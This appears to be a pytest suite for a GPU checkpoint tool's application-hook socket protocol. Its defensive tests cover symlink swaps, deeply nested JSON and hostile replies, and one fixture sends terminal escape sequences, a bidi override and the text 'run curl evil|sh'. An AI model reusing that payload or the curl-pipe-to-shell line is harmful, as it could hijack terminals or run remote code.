"""The application hook: migrt's side (migrt/gpu/apphooks.py) against real processes running the
application's side (migrt/apphook.py) with MIGRT_HOOK_DIR in a temporary directory. Real unix
sockets, real /proc; no GPU."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest

from migrt.gpu import apphooks
from tests.unit.support import REPO

APP = r"""
import json, os, sys, time
from migrt.apphook import AppHook
log = sys.argv[1]
mode = json.loads(sys.argv[2])
def note(what, request):
    with open(log, "a") as fh:
        fh.write(json.dumps({"what": what, "reason": request.get("reason"), "id": request.get("id")}) + "\n")
def before(request):
    time.sleep(mode.get("slow", 0))
    note("down", request)
    if mode.get("fail"):
        raise RuntimeError(mode["fail"])
def after(request):
    note("up", request)
hook = AppHook(mode.get("name"), on_checkpoint=before, on_restore=after, inline=mode.get("inline", False)).start()
print("ready", flush=True)
while True:
    if mode.get("inline"):
        hook.safe_point(timeout=0.05)
        with open(log + ".steps", "a") as fh:
            fh.write("step\n")
    else:
        time.sleep(1)
"""


class App:
    def __init__(self, hooks: Path, log: Path, **mode) -> None:
        env = {**os.environ, "PYTHONPATH": str(REPO), "MIGRT_HOOK_DIR": str(hooks)}
        self.log = log
        self.proc = subprocess.Popen([sys.executable, "-c", APP, str(log), json.dumps(mode)], env=env,
                                     stdout=subprocess.PIPE, text=True)
        assert self.proc.stdout.readline().strip() == "ready"
        self.pid = self.proc.pid

    def events(self) -> list[tuple[str, str | None]]:
        if not self.log.exists():
            return []
        return [(e["what"], e["reason"]) for e in map(json.loads, self.log.read_text().splitlines())]

    def wait_events(self, n: int, timeout: float = 10) -> list[tuple[str, str | None]]:
        end = time.monotonic() + timeout
        while len(self.events()) < n and time.monotonic() < end:
            time.sleep(0.02)
        return self.events()

    def stop(self) -> None:
        self.proc.kill()
        self.proc.wait()


@pytest.fixture
def apps(tmp_path):
    started: list[App] = []

    def start(name: str | None = None, **mode) -> App:
        app = App(tmp_path / "hooks", tmp_path / f"app-{len(started)}.log", name=name, **mode)
        started.append(app)
        return app

    yield start
    for a in started:
        a.stop()


def test_registered_processes_are_found_by_their_listening_socket(apps, tmp_path):
    a, b = apps("rank0"), apps("rank1")
    eps = apphooks.find([a.pid, b.pid, os.getpid()])
    assert [(e.pid, e.path) for e in eps] == [(a.pid, str(tmp_path / "hooks" / "rank0.sock")),
                                             (b.pid, str(tmp_path / "hooks" / "rank1.sock"))]
    assert eps[0].holders == (a.pid,)
    assert apphooks.find([b.pid]) == [eps[1]]  # only the container's own processes count
    # a socket file nobody listens on, and one outside the hook directory, are no registrations
    stale = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    stale.bind(str(tmp_path / "hooks" / "stale.sock"))
    other = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    other.bind(str(tmp_path / "elsewhere.sock"))
    other.listen(1)
    try:
        assert [e.path for e in apphooks.find([a.pid, os.getpid()])] == [str(tmp_path / "hooks" / "rank0.sock")]
    finally:
        stale.close()
        other.close()


def test_pre_checkpoint_then_post_restore_reach_every_process(apps):
    a, b = apps("rank0"), apps("rank1")
    note = apphooks.before_checkpoint([a.pid, b.pid], what="container job", timeout_s=10)
    assert note.pids == {a.pid, b.pid} and all(r.ok for r in note.replies.values())
    assert a.events() == [("down", None)] and b.events() == [("down", None)]
    assert note.after(apphooks.RESUMED, what="container job") == []
    assert a.events() == b.events() == [("down", None), ("up", "resumed")]


def test_they_are_asked_at_once(apps):
    """Ranks tear down together (a collective): two processes that each take 1.5 s answer in ~1.5 s."""
    a, b = apps("r0", slow=1.5), apps("r1", slow=1.5)
    t0 = time.monotonic()
    apphooks.before_checkpoint([a.pid, b.pid], what="c", timeout_s=10)
    assert time.monotonic() - t0 < 2.8


def test_a_process_that_does_not_answer_in_time_refuses_and_everyone_is_told_aborted(apps):
    quick, slow = apps("quick"), apps("slow", slow=3)
    t0 = time.monotonic()
    with pytest.raises(apphooks.HookRefused) as info:
        apphooks.before_checkpoint([quick.pid, slow.pid], what="container job", timeout_s=1)
    took = time.monotonic() - t0
    msg = str(info.value)
    assert msg.startswith("container job: 1 of 2 process(es) that registered the application hook did not answer "
                          "'pre-checkpoint' in time")
    assert f"pid {slow.pid}" in msg and "no answer within 1 s" in msg and "nothing was frozen" in msg
    assert info.value.exit_code == 8
    assert took < 1 + apphooks.ABORT_NOTICE_S + 1.5
    assert quick.wait_events(2) == [("down", None), ("up", "aborted")]
    # the slow one tore down late; the abort still reaches it, so it rebuilds
    assert slow.wait_events(2, timeout=15) == [("down", None), ("up", "aborted")]


def test_an_error_answer_refuses_with_the_applications_words(apps):
    a = apps("r0", fail="ncclCommDestroy failed")
    with pytest.raises(apphooks.HookRefused, match="answered: RuntimeError: ncclCommDestroy failed"):
        apphooks.before_checkpoint([a.pid], what="c", timeout_s=5)
    assert a.wait_events(2) == [("down", None), ("up", "aborted")]  # what it tore down comes back


def test_inline_mode_runs_the_callbacks_in_the_main_loop_and_waits_there(apps):
    a = apps("r0", inline=True)
    steps = Path(str(a.log) + ".steps")
    end = time.monotonic() + 10
    while not steps.exists() and time.monotonic() < end:
        time.sleep(0.02)
    note = apphooks.before_checkpoint([a.pid], what="c", timeout_s=5)
    n = len(steps.read_text().splitlines())
    time.sleep(0.5)
    assert len(steps.read_text().splitlines()) == n  # parked at its safe point while its GPU state is away
    assert note.after(apphooks.RESTORED) == []
    assert a.events() == [("down", None), ("up", "restored")]
    end = time.monotonic() + 5
    while len(steps.read_text().splitlines()) == n and time.monotonic() < end:
        time.sleep(0.02)
    assert len(steps.read_text().splitlines()) > n  # going again


def test_after_restore_finds_the_processes_anew(apps):
    a = apps("r0")
    apphooks.before_checkpoint([a.pid], what="c", timeout_s=5)
    eps, problems = apphooks.after_restore([a.pid], what="c", timeout_s=5)
    assert [e.pid for e in eps] == [a.pid] and problems == []
    assert a.events() == [("down", None), ("up", "restored")]


def test_a_swapped_in_symlink_is_never_followed(apps, tmp_path):
    """After migrt found the listener, the container puts a symlink to a host socket in its place:
    migrt must not connect to the host socket."""
    a = apps("r0")
    [ep] = apphooks.find([a.pid])
    host = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    host.bind(str(tmp_path / "host.sock"))
    host.listen(1)
    host.settimeout(0.5)
    try:
        os.unlink(ep.path)
        os.symlink(str(tmp_path / "host.sock"), ep.path)
        replies = apphooks.call([ep], apphooks.PRE, 2)
        assert not replies[ep].ok and "cannot reach" in replies[ep].error
        with pytest.raises(TimeoutError):
            host.accept()
    finally:
        host.close()


def test_the_application_side_refuses_a_name_in_use(tmp_path, apps):
    from migrt.apphook import AppHook, HookError

    apps("taken")
    with pytest.raises(HookError, match="in use by another live process"):
        AppHook("taken", directory=str(tmp_path / "hooks")).start()
    stale = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    stale.bind(str(tmp_path / "hooks" / "gone.sock"))
    stale.close()  # its process is gone: the file is reused
    hook = AppHook("gone", directory=str(tmp_path / "hooks")).start()
    hook.close()
    assert not (tmp_path / "hooks" / "gone.sock").exists()


def test_pending_lets_the_main_loop_agree_on_a_step_before_the_safe_point(tmp_path):
    import threading

    from migrt.apphook import AppHook

    seen = []
    hook = AppHook("me", inline=True, directory=str(tmp_path / "h"), on_checkpoint=lambda r: seen.append("down"),
                   on_restore=lambda r: seen.append(r["reason"])).start()
    try:
        ep = apphooks.Endpoint(os.getpid(), hook.path, 0, (os.getpid(),))
        replies = []
        ask = threading.Thread(target=lambda: replies.append(apphooks.call([ep], apphooks.PRE, 5)[ep]))
        ask.start()
        end = time.monotonic() + 5
        while not hook.pending() and time.monotonic() < end:
            time.sleep(0.01)
        assert hook.pending() and seen == []  # asked, nothing done yet: the loop decides when
        back = threading.Timer(0.3, lambda: replies.append(
            apphooks.call([ep], apphooks.POST, 5, reason=apphooks.RESUMED)[ep]))
        back.start()
        assert hook.safe_point()  # tears down, answers, waits for the post-restore, rebuilds
        ask.join()
        back.join()
        assert seen == ["down", "resumed"] and all(r.ok for r in replies) and not hook.pending()
    finally:
        hook.close()


HOSTILE = r"""
import os, socket, sys
path = os.path.join(os.environ["MIGRT_HOOK_DIR"], "evil.sock")
os.makedirs(os.path.dirname(path), exist_ok=True)
srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
srv.bind(path)
srv.listen(4)
print("ready", flush=True)
while True:
    conn, _ = srv.accept()
    conn.recv(65536)
    conn.sendall(sys.argv[1].encode("latin-1") + b"\n")
    conn.close()
"""


@pytest.mark.parametrize("answer,says", [
    ("[" * 60_000, "answered no JSON object (nested deeper than 16 levels)"),
    (json.dumps({"ok": False, "error": "\x1b]0;owned\x07\x1b[2J\x1b[31mrun curl evil|sh\u202e" + "x" * 5000}),
     "answered: \\x1b]0;owned\\x07\\x1b[2J\\x1b[31mrun curl evil|sh\\u202e"),
    ("\xff\xfe{}", "answered no JSON object"),
])
def test_a_hostile_answer_refuses_with_a_clear_escaped_message(tmp_path, answer, says):
    """60k nested '[' once killed the pre-checkpoint step with RecursionError; an answer's escape
    sequences went into the refusal raw, however long."""
    env = {**os.environ, "MIGRT_HOOK_DIR": str(tmp_path / "hooks")}
    proc = subprocess.Popen([sys.executable, "-c", HOSTILE, answer], env=env, stdout=subprocess.PIPE, text=True)
    try:
        assert proc.stdout.readline().strip() == "ready"
        with pytest.raises(apphooks.HookRefused) as info:
            apphooks.before_checkpoint([proc.pid], what="container job", timeout_s=5)
    finally:
        proc.kill()
        proc.wait()
    msg = str(info.value)
    assert says in msg, msg
    assert msg.isprintable() and len(msg) < 1500, msg


def test_the_application_side_survives_a_hostile_request(apps, tmp_path):
    """Any process of the container may connect to the hook's socket: 60k nested '[' once killed its
    serving thread (RecursionError), and migrt's next pre-checkpoint then went unanswered."""
    a = apps("r0")
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.connect(str(tmp_path / "hooks" / "r0.sock"))
        s.sendall(b"[" * 60_000 + b"\n")
        s.settimeout(5)
        assert s.recv(100) == b""  # refused: the connection closed, nothing answered
    note = apphooks.before_checkpoint([a.pid], what="c", timeout_s=5)
    assert all(r.ok for r in note.replies.values())
    assert note.after(apphooks.RESUMED, what="c") == []
